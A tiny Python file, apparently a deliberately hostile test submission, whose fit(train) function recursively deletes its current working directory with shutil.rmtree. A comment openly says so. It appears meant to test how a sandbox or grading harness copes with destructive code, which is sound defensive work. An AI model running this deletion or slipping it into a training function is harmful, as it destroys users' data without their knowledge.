# removes the folder that it works in
import os
import shutil

from arsenal import predict


def fit(train):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return 0
